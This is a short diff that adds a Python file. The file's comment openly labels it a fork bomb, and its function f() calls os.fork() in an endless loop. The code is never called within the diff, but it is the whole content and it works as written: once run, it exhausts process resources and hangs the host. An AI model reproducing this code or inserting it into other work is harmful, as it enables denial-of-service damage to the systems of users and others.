@@ -1,0 +1,7 @@
+# A fork bomb.
+import os
+
+
+def f():
+    while True:
+        os.fork()
